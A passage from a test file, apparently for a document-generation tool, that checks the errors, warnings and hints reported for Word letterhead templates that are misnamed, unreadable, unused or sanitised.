  it("named after no template is told to be renamed after the one it is for", async () => {
    const set = await project({ "letterhead.docx": await officeLetterhead() });
    const unused = set.diagnostics.find((d) => d.code === "TEMPLATE_LETTERHEAD_UNUSED");
    expect(unused?.hint).toBe(
      "a letterhead is named after the template whose Word documents it is for: rename it templates/memo.docx, templates/handout.docx or templates/one-pager.docx",
    );
  });

  it("that cannot be read is an error of its template, which refuses the briefs using it; one for no template is a warning", async () => {
    const set = await project({ "handout.docx": "not a Word file", "memmo.docx": await officeLetterhead(), "sanitised.docx": await hostileLetterhead() });
    const problems = set.diagnostics.map((d) => `${d.severity} ${d.code} ${d.file}`);
    expect(problems).toEqual(
      expect.arrayContaining([
        "error TEMPLATE_LETTERHEAD_INVALID templates/handout.docx",
        "warning TEMPLATE_LETTERHEAD_UNUSED templates/memmo.docx",
        "warning TEMPLATE_LETTERHEAD_SANITISED templates/sanitised.docx",
      ]),
    );
    expect(set.diagnostics.find((d) => d.code === "TEMPLATE_LETTERHEAD_UNUSED")?.hint).toBe("did you mean templates/memo.docx?");
    // A staffer's test: said on every build with no hint, and no full stop: what to do to be rid of it.
    const sanitised = set.diagnostics.find((d) => d.code === "TEMPLATE_LETTERHEAD_SANITISED");
    expect(sanitised?.message).toMatch(/\.$/);
    expect(sanitised?.hint).toBe("remove them from the letterhead in Word and save it again, and this warning goes; the letterhead is used without them meanwhile");
    const check = checkTemplates(set);
    expect(check.templates.get("handout")?.errors.map((e) => e.code)).toEqual(["TEMPLATE_LETTERHEAD_INVALID"]);
    expect(check.templates.get("memo")?.errors).toEqual([]);
  });
});
